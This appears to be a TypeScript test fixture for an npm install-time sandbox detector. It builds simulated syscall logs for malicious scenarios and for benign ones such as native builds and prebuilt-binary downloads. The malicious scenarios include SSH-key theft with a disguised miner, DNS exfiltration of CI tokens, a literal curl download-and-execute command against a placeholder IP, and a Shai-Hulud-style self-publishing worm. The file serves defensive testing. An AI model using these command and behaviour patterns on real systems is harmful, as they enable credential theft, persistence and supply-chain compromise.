/**
 * The scenarios as recorded runs: four malicious (xmlrpc-style, DNS exfiltration to a
 * hard-coded resolver, download-and-execute from a literal IP, Shai-Hulud-style publish) and two
 * benign (native build, download-at-install into the package's own directory).
 */
import type { RunRecord } from '../../types.js';
import { HOME, LOADER, PACKAGE, PACKAGE_DIR, PROJECT, runBuilder, TOKENS } from './runs.js';

/** @0xengine/xmlrpc: on require, reads SSH keys and history, uploads, installs a systemd unit, starts a renamed miner. */
export const xmlrpcStyle = (): RunRecord => {
  const run = runBuilder().standard().loader();
  run.open(LOADER, `${HOME}/.ssh/id_rsa`).open(LOADER, `${HOME}/.bash_history`);
  run.proc(4301, LOADER, ['tar', 'czf', '/tmp/.x1.tgz', `${HOME}/.ssh`], { path: '/usr/bin/tar' });
  run.open(4301, `${HOME}/.ssh`, 'read', { flags: ['O_RDONLY', 'O_DIRECTORY'] }).write(4301, '/tmp/.x1.tgz');
  run.lookup(LOADER, 'files.filedrop.invalid');
  run.tcp(LOADER, run.answer(), 443, { sni: 'files.filedrop.invalid', data: '\u0016\u0003\u0001 fake hello' });
  run.mkdir(LOADER, `${HOME}/.config/systemd/user`);
  run.write(LOADER, `${HOME}/.config/systemd/user/xsync.service`);
  run.mkdir(LOADER, `${HOME}/.local/share/.cache`);
  run.write(LOADER, `${HOME}/.local/share/.cache/kworker`);
  run.chmod(LOADER, `${HOME}/.local/share/.cache/kworker`, 0o755);
  run.proc(4302, LOADER, ['systemctl', '--user', 'enable', '--now', 'xsync.service'], { path: '/usr/bin/systemctl' });
  run.proc(4303, LOADER, ['kworker', '--donate-level', '1'], { path: `${HOME}/.local/share/.cache/kworker` });
  return run.build();
};

/** Hex of the environment, 60 characters a label, two labels a query, to a hard-coded resolver. */
export const dnsExfiltration = (): RunRecord => {
  const run = runBuilder('ci').standard();
  run.script(4110, 'node collect.js').proc(4111, 4110, ['node', 'collect.js'], { path: '/usr/bin/node' });
  const env = `HOME=${HOME};CI=true;GITHUB_TOKEN=${TOKENS[4]!.value};NPM_TOKEN=${TOKENS[0]!.value}`;
  const hex = Buffer.from(env).toString('hex');
  for (let i = 0, n = 0; i < hex.length; i += 120, n++) {
    const chunk = hex.slice(i, i + 120);
    const labels = chunk.match(/.{1,60}/g)!.join('.');
    run.lookup(4111, `${labels}.t-relay.invalid`, { resolver: '203.0.113.53' });
  }
  return run.build();
};

/** `curl http://203.0.113.7/x -o /tmp/.cache-x && chmod +x … && /tmp/.cache-x`. */
export const downloadAndExecute = (): RunRecord => {
  const run = runBuilder().standard();
  const command = 'curl -s -o /tmp/.cache-x http://203.0.113.7/x && chmod +x /tmp/.cache-x && /tmp/.cache-x';
  run.script(4120, command);
  run.proc(4121, 4120, ['curl', '-s', '-o', '/tmp/.cache-x', 'http://203.0.113.7/x'], { path: '/usr/bin/curl' });
  run.tcp(4121, '203.0.113.7', 80, {
    http: { method: 'GET', target: '/x', host: '203.0.113.7' },
    data: 'GET /x HTTP/1.1\r\nHost: 203.0.113.7\r\nUser-Agent: curl/7.88.1\r\n\r\n',
  });
  run.write(4121, '/tmp/.cache-x');
  run.proc(4122, 4120, ['chmod', '+x', '/tmp/.cache-x'], { path: '/usr/bin/chmod' }).chmod(4122, '/tmp/.cache-x', 0o755);
  run.proc(4123, 4120, ['/tmp/.cache-x'], { path: '/tmp/.cache-x' });
  return run.build();
};

/** Shai-Hulud: a postinstall reads the npm token, checks it at the registry, and publishes. */
export const shaiHuludStyle = (): RunRecord => {
  const run = runBuilder().standard();
  run.script(4130, 'node bundle.js').proc(4131, 4130, ['node', 'bundle.js'], { path: '/usr/bin/node' });
  run.open(4131, `${HOME}/.npmrc`);
  run.lookup(4131, 'registry.npmjs.org');
  run.tcp(4131, run.answer(), 443, { sni: 'registry.npmjs.org', data: 'opaque' });
  run.write(4131, `/tmp/pkg-${PACKAGE}/package.json`);
  run.proc(4132, 4131, ['npm', 'publish', '--access', 'public'], { path: '/usr/bin/npm' });
  run.open(4132, `${HOME}/.npmrc`);
  run.lookup(4132, 'registry.npmjs.org');
  run.tcp(4132, run.answer(), 443, { sni: 'registry.npmjs.org', data: 'opaque' });
  return run.build();
};

/** The same worm speaking plain HTTP to a registry: the publish PUT is visible at the sinkhole. */
export const shaiHuludHttpPut = (): RunRecord => {
  const run = runBuilder().standard();
  run.script(4130, 'node bundle.js').proc(4131, 4130, ['node', 'bundle.js'], { path: '/usr/bin/node' });
  run.open(4131, `${HOME}/.npmrc`);
  run.lookup(4131, 'registry.npmjs.invalid');
  const body = JSON.stringify({ name: 'victim-lib', 'dist-tags': { latest: '1.0.1' }, _attachments: {} });
  run.tcp(4131, run.answer(), 80, {
    http: { method: 'PUT', target: '/victim-lib', host: 'registry.npmjs.invalid' },
    data: `PUT /victim-lib HTTP/1.1\r\nHost: registry.npmjs.invalid\r\nAuthorization: Bearer xyz\r\n\r\n${body}`,
  });
  return run.build();
};

/** A native addon: the default `node-gyp rebuild` install script, a compiler writing in the package dir and /tmp. */
export const nativeBuild = (): RunRecord => {
  const run = runBuilder().standard();
  run.script(4140, 'node-gyp rebuild', { event: 'install' });
  run.proc(4141, 4140, ['node', '/usr/lib/node_modules/npm/node_modules/node-gyp/bin/node-gyp.js', 'rebuild'], {
    path: '/usr/bin/node',
  });
  run.open(4141, `${HOME}/.cache/node-gyp/20.20.2/include/node/node.h`);
  run.open(4141, `${PACKAGE_DIR}/binding.gyp`);
  run.proc(4142, 4141, ['python3', '/usr/lib/node_modules/npm/node_modules/node-gyp/gyp/gyp_main.py', 'binding.gyp'], {
    path: '/usr/bin/python3',
  });
  // Python tries to cache gyp's bytecode in the read-only system tree; shells redirect to /dev/null.
  run.write(4142, '/usr/lib/node_modules/npm/node_modules/node-gyp/gyp/pylib/gyp/__pycache__/input.cpython-311.pyc', {
    errno: 'EROFS',
  });
  run.write(4140, '/dev/null').write(4143, '/dev/tty', { errno: 'ENXIO' });
  run.mkdir(4142, `${PACKAGE_DIR}/build`).write(4142, `${PACKAGE_DIR}/build/Makefile`).write(4142, `${PACKAGE_DIR}/build/config.gypi`);
  run.proc(4143, 4141, ['make', 'BUILDTYPE=Release', '-C', 'build'], { path: '/usr/bin/make' });
  run.proc(4144, 4143, ['g++', '-o', 'Release/obj.target/addon/addon.o', '../addon.cc', '-c'], { path: '/usr/bin/g++' });
  run.proc(4145, 4144, ['/usr/lib/gcc/x86_64-linux-gnu/12/cc1plus', '-quiet', '../addon.cc', '-o', '/tmp/ccQx3b.s'], {
    path: '/usr/lib/gcc/x86_64-linux-gnu/12/cc1plus',
  });
  run.open(4145, `${PACKAGE_DIR}/addon.cc`).write(4145, '/tmp/ccQx3b.s');
  run.proc(4146, 4144, ['as', '--64', '-o', 'Release/obj.target/addon/addon.o', '/tmp/ccQx3b.s'], { path: '/usr/bin/as' });
  run.open(4146, '/tmp/ccQx3b.s').write(4146, `${PACKAGE_DIR}/build/Release/obj.target/addon/addon.o`);
  run.proc(4147, 4143, ['g++', '-shared', '-o', 'Release/obj.target/addon.node'], { path: '/usr/bin/g++' });
  run.write(4147, `${PACKAGE_DIR}/build/Release/obj.target/addon.node`);
  run.rename(4143, `${PACKAGE_DIR}/build/Release/obj.target/addon.node`, `${PACKAGE_DIR}/build/Release/addon.node`);
  run.loader().open(LOADER, `${PACKAGE_DIR}/build/Release/addon.node`);
  return run.build();
};

/** esbuild/sharp-style: download a prebuilt binary over HTTPS into the package's own dir, check `--version`. */
export const downloadAtInstall = (): RunRecord => {
  const run = runBuilder().standard();
  run.script(4150, 'node install.js').proc(4151, 4150, ['node', 'install.js'], { path: '/usr/bin/node' });
  run.lookup(4151, 'downloads.tool-vendor.invalid');
  run.tcp(4151, run.answer(), 443, { sni: 'downloads.tool-vendor.invalid', data: 'hello' });
  run.mkdir(4151, `${HOME}/.cache/tool-vendor`).write(4151, `${HOME}/.cache/tool-vendor/tool-1.2.3.tgz`);
  run.write(4151, `${PACKAGE_DIR}/bin/tool.tmp`).rename(4151, `${PACKAGE_DIR}/bin/tool.tmp`, `${PACKAGE_DIR}/bin/tool`);
  run.chmod(4151, `${PACKAGE_DIR}/bin/tool`, 0o755);
  run.proc(4152, 4151, [`${PACKAGE_DIR}/bin/tool`, '--version'], { path: `${PACKAGE_DIR}/bin/tool` });
  run.loader();
  return run.build();
};

export const META = {
  package: { name: PACKAGE, version: '1.0.0', source: `${PACKAGE}@1.0.0` },
  mode: 'bubblewrap' as const,
  limits: { installMs: 120_000, importMs: 30_000, executeMs: 30_000, lingerMs: 2_000 },
  durationMs: 95_000,
  cleanedUp: true,
};

export { PROJECT };
